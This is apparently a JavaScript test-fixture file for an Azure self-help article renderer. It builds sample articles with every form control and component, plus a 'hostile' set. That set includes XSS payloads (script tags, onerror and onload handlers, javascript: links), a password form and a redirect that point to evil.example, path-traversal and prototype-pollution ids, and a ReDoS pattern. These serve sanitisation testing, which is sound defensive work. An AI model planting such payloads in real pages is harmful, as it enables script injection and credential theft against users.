// Articles with every control of a form, every component, and the text of an attacker.

import { article, form } from "./trees.js";

const questions = [
  { id: "how", order: 1, controlType: "dropdown", displayLabel: "How?", required: true, watermarkText: "Choose one", dropdownOptions: [{ value: "ARM", text: "With ARM" }, { value: "CLI (az)", text: "With the CLI" }, { value: "dont_know_answer", text: "Other" }] },
  { id: "template", order: 2, controlType: "textbox", displayLabel: "Which template?", visibility: "how == ARM", required: true, validations: [{ type: "RegExMatch", value: "^[a-z]+$", text: "Small letters only" }] },
  { id: "version", order: 3, controlType: "numerictextbox", displayLabel: "Which version?", visibility: "how == CLI (az) || (how == ARM && template != null)", validations: [{ type: "GreaterThan", value: 2, text: "More than 2" }] },
  { id: "when", order: 4, controlType: "datetimepicker", displayLabel: "When?", infoBalloonText: "Roughly" },
  { id: "what", order: 5, controlType: "multiselectdropdown", displayLabel: "What changed?", dropdownOptions: [{ value: "a", text: "Size" }, { value: "b", text: "Network" }] },
  { id: "net", order: 6, controlType: "textbox", displayLabel: "Which network?", visibility: "what == b", validations: [{ type: "MaxLength", value: 4, text: "Four letters at most" }] },
  { id: "who", order: 7, controlType: "radioButtonGroup", displayLabel: "Who?", radioButtonOptions: [{ value: "me", text: "I" }, { value: "them", text: "They" }] },
  { id: "slow", order: 8, controlType: "textbox", displayLabel: "Slow pattern", validations: [{ type: "RegExMatch", value: "^(a+)+$", text: "Never said" }] },
  { id: "broken", order: 9, controlType: "textbox", displayLabel: "Broken pattern", validations: [{ type: "RegExMatch", value: "([", text: "Never said" }] },
  { id: "group", order: 10, controlType: "dropdown", displayLabel: "Which group?", dynamicDropdownOptions: { uri: "/subscriptions/{subscriptionId}/resourceGroups", jTokenPath: "value", textProperty: "name", valueProperty: "id", defaultDropdownOptions: { value: "dont_know_answer", text: "Another group" } } },
  { id: "list", order: 11, controlType: "dropdown", displayLabel: "Long list", filter: true, dropdownOptions: ["North", "South", "East"].map((text) => ({ value: text, text })) },
  { id: "info", order: 12, controlType: "infoblock", content: "Read <a href='https://docs.microsoft.com/azure/'>the guide</a>." },
  { id: "note", order: 13, controlType: "textBlock", displayLabel: "A note <b>as it is</b>" },
  { id: "problem_description", order: 14, controlType: "multilinetextbox", displayLabel: "Describe the problem", required: true, useAsAdditionalDetails: true, numberOfLines: 6, hints: [{ text: "What you tried" }] },
];

const components = `## Everything in one article

Text with \`code\`, <!--$vmname-->[vm name]<!--/$vmname--> and [a blade](data-blade:Microsoft_Azure_Compute.VirtualMachineBlade.id.$resourceId;data-blade-uri:{$domain}/#blade/overview).

[A button](button-data-blade:Microsoft_Azure_Compute.VirtualMachineRedeployViewModel.id.$resourceId)

![A diagram of the network](https://pictures.example.org/network.png)

[![Inside a link](https://pictures.example.org/linked.png)](https://docs.microsoft.com/azure/)

| Code | Meaning |
|---|---|
| 403 | Forbidden |

\`\`\`
az vm list --output table
\`\`\`

:::Section Checks:::

The check looks at the machine.

<insight>
<symptomId>VMBootError</symptomId>
<executionText>We look at the machine</executionText>
<noResultText>Nothing <b>found</b></noResultText>
</insight>

The chart shows the processor.

<metric>
<name>Percentage CPU</name>
<title>CPU & memory</title>
</metric>

:::Section Watch:::

The video shows it.

<video>
<src>https://www.youtube.com/watch?v=abcdefghijk</src>
<title>How to "connect"</title>
</video>

<azureKB>
<client>portal</client>
</azureKB>
`;

const solve = {
  $schema: "SelfHelpContent",
  commonProblems: [
    { id: "p1", title: "It does not start", description: "After a change", category: "Start", searchTags: "boot", supportTopicId: "32411835", commonSolutionArticleId: "example-plain", symptomId: "VMBootError" },
    { id: "p2", title: "It is slow", description: "Or seems to be", category: "Performance", searchTags: "cpu", subProblems: [{ title: "The disk is slow", description: "Waits", commonSolutionArticleId: "example-plain" }] },
  ],
  troubleshootingTools: [{ id: "t1", title: "Redeploy", description: "Move it", category: "Start", type: "tool", bladeLink: { extensionName: "Microsoft_Azure_Compute", bladeName: "VirtualMachineRedeployViewModel", parameters: [{ name: "id", value: "$resourceId" }] } }],
};

const topics = {
  shortDescription: "Example machines",
  longDescription: "Machines <b>for examples</b>",
  supportTopics: [
    { id: "32411835", shortDescription: "It does not start", longDescription: "Help with machines that do not start", category: "Start", searchTags: "boot; start", useInDiagnoseAndSolve: "true" },
    { id: "32411836", shortDescription: "It is slow", longDescription: "Help with slow machines", category: "Performance", searchTags: "cpu", useInDiagnoseAndSolve: "true" },
  ],
};

export const every = {
  "example/example-plain.md": article({ id: "example-plain", title: "Start the machine", more: 'displayOrder="1" resourceTags="windows"' }, "Start it.\n\n## **Recommended Steps**\n\n1. Select **Start**.\n2. Wait, then see [the other article](example-linux.md).\n\n## **Recommended Documents**\n\n* [How machines start](https://docs.microsoft.com/azure/virtual-machines/)"),
  "example/example-linux.md": article({ id: "example-linux", title: "Start a Linux machine", more: 'displayOrder="2" resourceTags="linux"' }, "Start it with the CLI."),
  "example/example-chinese.md": article({ id: "example-chinese", title: "虚拟机无法启动时的解决方法", more: 'displayOrder="3"' }, "请先重新启动虚拟机。"),
  "example/example-apollo.md": article({ id: "example-apollo", type: "apollo", title: "Internal title", more: 'displayOrder="4"' }, components),
  "example/example-form.md": article({ id: "example-form", type: "problemScopingQuestions", title: "Example questions", more: 'schemaVersion="1"' }, form(questions)),
  "example/example-solve.md": article({ id: "example-solve", type: "diagnoseandsolve", title: "Problems with machines" }, `---\n${JSON.stringify(solve)}\n---`),
  "example/example-topics.md": article({ id: "example-topics", type: "supportTopicDescription", title: "Example machines", topics: "" }, `---\n${JSON.stringify(topics)}\n---`),
  "example/example-tsg.md": article({ id: "example-tsg", type: "TSG_Description", title: "For engineers" }, "Ask the guest first."),
};

const evil = [
  "<script>globalThis.hacked = 1</script>",
  "<img src=x onerror=\"globalThis.hacked=2\">",
  "<a href=\"javascript:globalThis.hacked=3\" id=\"evil\">click me</a>",
  "[link](javascript:globalThis.hacked=4)",
  "<svg onload=\"globalThis.hacked=5\"></svg>",
  "<iframe srcdoc=\"<script>parent.hacked=6</script>\"></iframe>",
  "<div></p></main></body></html><b onclick=\"globalThis.hacked=7\">bold",
  "</article></main><form action=\"https://evil.example/\"><input name=password></form>",
  "<style>*{display:none}</style>",
  "<!--$x--><script>globalThis.hacked=8</script><!--/$x-->",
  "<base href=\"https://evil.example/\"><meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
  "![\" onload=\"globalThis.hacked=9](https://pictures.example.org/\"onload=\"x.png)",
].join("\n\n");

const evilText = "\"><img src=x onerror=globalThis.hacked=10><script>globalThis.hacked=11</script>{{ 7 * 7 }}";

export const hostile = {
  "example/evil-text.md": article({ id: "evil-text", title: evilText, more: 'displayOrder="1"' }, evil),
  "example/evil-id.md": article({ id: "../../index &quot;>&lt;script>", title: "An id to climb with", more: 'displayOrder="2"' }, "Text."),
  "example/evil-apollo.md": article({ id: "evil-apollo", type: "apollo", title: "Internal" }, `## ${evilText}\n\nText.\n\n:::Section ${evilText}:::\n\nMore text.\n\n<insight>\n<symptomId>A</symptomId>\n<executionText>&lt;img src=x onerror=globalThis.hacked=12></executionText>\n</insight>\n\nA video.\n\n<video>\n<src>javascript:globalThis.hacked=13</src>\n<title>&lt;script>globalThis.hacked=14&lt;/script></title>\n</video>\n\n${evil}`),
  "example/evil-form.md": article({ id: "evil-form", type: "problemScopingQuestions", title: "Evil questions", more: 'schemaVersion="1"' }, form([
    { id: "__proto__", order: 1, controlType: "textbox", displayLabel: evilText, watermarkText: evilText },
    { id: "constructor", order: 2, controlType: "dropdown", displayLabel: "x", dropdownOptions: [{ value: evilText, text: evilText }] },
    { id: "info", order: 3, controlType: "infoblock", content: evil },
    { id: "problem_description", order: 4, controlType: "multilinetextbox", displayLabel: "y", useAsAdditionalDetails: true, hints: [{ text: evil }], infoBalloonText: evil },
  ])),
  "example/evil-solve.md": article({ id: "evil-solve", type: "diagnoseandsolve", title: "Evil problems" }, `---\n${JSON.stringify({ $schema: "SelfHelpContent", commonProblems: [{ id: "a", title: evilText, description: evilText, category: evilText, commonSolutionArticleId: "evil-text" }], troubleshootingTools: [{ id: "t", title: evilText, bladeLink: { extensionName: evilText, bladeName: evilText, parameters: [{ name: evilText, value: evilText }] } }] })}\n---`),
  "example/evil-topics.md": article({ id: "evil-topics", type: "supportTopicDescription", title: "Evil topics", topics: "" }, `---\n${JSON.stringify({ shortDescription: evilText, longDescription: evilText, supportTopics: [{ id: "32411835", shortDescription: evilText, longDescription: evilText, category: evilText, searchTags: evilText, useInDiagnoseAndSolve: "true" }] })}\n---`),
};

// The rules hold these back, but these tests publish them.
export const lax = {
  rules: { "structure/html-disallowed": "warning", "links/scheme": "warning", "links/image-local": "warning", "properties/value": "warning" },
};
